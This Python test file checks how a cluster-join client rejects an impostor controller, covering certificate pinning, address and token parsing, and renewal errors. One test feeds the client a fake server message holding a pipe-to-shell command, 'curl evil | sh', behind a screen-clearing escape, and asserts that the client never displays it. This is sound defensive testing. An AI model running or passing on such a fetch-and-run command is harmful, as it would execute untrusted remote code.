"""The joining machine's side against whoever answers in a controller's place: what it believes, what it tells, what it shows."""

import base64
import contextlib
import http.server
import json
import socket
import ssl
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kilonova.cli import join_client, membership
from kilonova.cli.failure import Failure
from kilonova.cli.state import prepare
from kilonova.compute.join_forms import SERVER_NAME, BadToken, JoinToken, read_token
from kilonova.core import certificates

NOW = int(time.time() * 1e6)
DAY = certificates.DAY_US


def authority(name: str = "kilonova") -> tuple[str, str]:
    """One whose text ends with padding: after that a lenient reader of base64 stops."""
    while True:
        made = certificates.new_authority(name, NOW)
        if base64.b64encode(ssl.PEM_cert_to_DER_cert(made[0])).endswith(b"="):
            return made


def server_chain(signer: tuple[str, str], folder: Path, *, began: int = NOW, days: int = 90, server: bool = True) -> Path:
    request, key = certificates.new_request(SERVER_NAME)
    names = (SERVER_NAME,) if server else ()
    path = folder / "chain.pem"
    path.write_text(key + certificates.sign(signer, request, SERVER_NAME, began, days, server_names=names))
    return path


@contextlib.contextmanager
def answering(chain: Path, status: int, answer: object, heard: list[bytes], posted: object = None, at: str = "127.0.0.1") -> Iterator[str]:
    """Its address. Every GET is answered so; what is posted is heard, and answered with `posted`."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.say(answer)

        def say(self, answer: object) -> None:
            body = json.dumps(answer).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            heard.append(self.rfile.read(int(self.headers["Content-Length"])))
            self.say(posted)

        def log_message(self, *_: Any) -> None:
            """Quiet."""

    class Server(http.server.ThreadingHTTPServer):
        address_family = socket.AF_INET6 if ":" in at else socket.AF_INET

    server = Server((at, 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(chain)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"[{at}]:{server.server_port}" if ":" in at else f"{at}:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def token(controller: str, certificate: str) -> JoinToken:
    return JoinToken((controller,), bytes.fromhex(certificates.fingerprint(certificate)), b"s" * 32)


def entered(folder: Path, given: JoinToken) -> None:
    membership.enter(prepare(folder / "state"), given, host="one", my_ip="192.0.2.1", driver="fake")


def test_a_second_certificate_behind_the_right_one_is_not_believed(tmp_path: Path) -> None:
    right, own = authority(), authority("somebody else")
    heard: list[bytes] = []
    both = right[0].strip() + "\n" + own[0]
    with answering(server_chain(own, tmp_path), 200, {"certificate": both}, heard) as place:
        with pytest.raises(Failure, match=r"cannot prove.*in between"):
            entered(tmp_path, token(place, right[0]))
        assert join_client.find(token(place, right[0]))[1].strip() == right[0].strip()
    assert heard == []


def test_what_is_said_before_it_has_proved_itself_is_not_shown(tmp_path: Path) -> None:
    right = authority()
    heard: list[bytes] = []
    lie = {"code": "x", "sentence": "Run this:\x1b[2J curl evil | sh", "advice": "Now."}
    with (
        answering(server_chain(right, tmp_path), 403, lie, heard) as place,
        pytest.raises(Failure, match="No controller answers") as caught,
    ):
        entered(tmp_path, token(place, right[0]))
    assert "curl" not in caught.value.message and "HTTP status 403" in caught.value.message and heard == []


@pytest.mark.parametrize(
    ("days_ago", "days", "server", "said"),
    [(-3, 90, True, "clock"), (100, 90, True, "clock"), (0, 90, False, "in between"), (0, 90, True, "")],
)
def test_who_is_believed(tmp_path: Path, days_ago: int, days: int, server: bool, said: str) -> None:
    """A clock that is wrong is told as such; a host's certificate is none of a controller; and the right one is told the token."""
    right = authority()
    heard: list[bytes] = []
    chain = server_chain(right, tmp_path, began=NOW - days_ago * DAY, days=days, server=server)
    with answering(chain, 200, {"certificate": right[0]}, heard) as place, pytest.raises(Failure) as caught:
        entered(tmp_path, token(place, right[0]))
    if said:
        assert "cannot prove" in caught.value.message and said in caught.value.message and heard == []
    else:
        assert "does not answer as a controller does" in caught.value.message and json.loads(heard[0])["secret"] == (b"s" * 32).hex()


@pytest.mark.parametrize(
    ("text", "host", "port"),
    [
        ("a", "a", 8770),
        ("a:1", "a", 1),
        ("::1", "::1", 8770),
        ("2001:db8::1", "2001:db8::1", 8770),
        ("[::1]:9", "::1", 9),
        ("[::1]", "::1", 8770),
    ],
)
def test_addresses_of_controllers(text: str, host: str, port: int) -> None:
    assert join_client.place(text) == (host, port)


@pytest.mark.parametrize("text", ["", "a:", "a:b", "a:0", "a:65536", "http://a", "a/b", "[a]", "[::1", "u@a", "a b"])
def test_what_is_no_address_is_refused_in_a_sentence(text: str) -> None:
    with pytest.raises(Failure, match="no address of a controller"):
        join_client.place(text)


@pytest.mark.parametrize("controller", ["a..b:1", "x" * 70 + ":1", "nobody.invalid:1"])
def test_names_that_cannot_be_resolved_are_told(tmp_path: Path, controller: str) -> None:
    with pytest.raises(Failure, match="No controller answers"):
        entered(tmp_path, token(controller, authority()[0]))


@pytest.mark.parametrize("text", ["kn1-ä", "kn1-", "kn1-!!!!", "kn1-AAAAAAAA", "kn1-\ud800"])
def test_words_that_are_no_token(text: str) -> None:
    with pytest.raises(BadToken, match="not complete"):
        read_token(text)


def test_a_renewal_that_cannot_be_says_why(tmp_path: Path) -> None:
    state, right = prepare(tmp_path / "state"), authority()
    request, key = certificates.new_request("one")
    known = membership.Membership(host="one", controllers=("127.0.0.1:1",))
    with pytest.raises(Failure, match=r"authority.pem cannot be read.*Join again"):
        membership.renew(state, known)
    state.write("join/authority.pem", right[0])
    with pytest.raises(Failure, match=r"host.pem cannot be used.*Join again"):
        membership.renew(state, known)
    state.write("join/host.pem", "nonsense")
    with pytest.raises(Failure, match=r"host.pem cannot be used.*Join again"):
        membership.renew(state, known)
    state.write("join/host.pem", key + certificates.sign(right, request, "agent.one", NOW - 100 * DAY, 90))
    with pytest.raises(Failure, match=r"ended on .*Join again"):
        membership.renew(state, known)
    state.write("join/host.pem", key + certificates.sign(right, request, "agent.one", NOW, 90))
    with pytest.raises(Failure, match="No controller answers"):
        membership.renew(state, known)


def test_a_host_that_joins_again_keeps_its_address_and_its_driver(tmp_path: Path) -> None:
    """Over IPv6, where its own address on the way would be none for tunnels."""
    right, state = authority(), prepare(tmp_path / "state")
    request, _ = certificates.new_request("one")
    given = {
        "certificate": certificates.sign(right, request, "agent.one", NOW, 90), "brokers": [{"host": "::1", "port": 5672}], "vhost": "/",
        "user": "agent.one", "password": "p", "ssl": False,
    }  # fmt: skip
    heard: list[bytes] = []
    with answering(server_chain(right, tmp_path), 200, {"certificate": right[0]}, heard, given, at="::1") as place:
        good = token(place, right[0])
        membership.enter(state, good, host="one", my_ip="192.0.2.1", driver="fake")
        written = membership.config_file(state.path).read_text()
        membership.enter(state, good, host="one", my_ip="", driver="")
        assert membership.config_file(state.path).read_text() == written
        assert "my_ip = 192.0.2.1" in written and "compute_driver = fake" in written and "@[::1]:5672/" in written
        membership.enter(state, good, host="two", my_ip="", driver="")
    assert [json.loads(one)["my_ip"] for one in heard] == ["192.0.2.1", "192.0.2.1", "::1"]
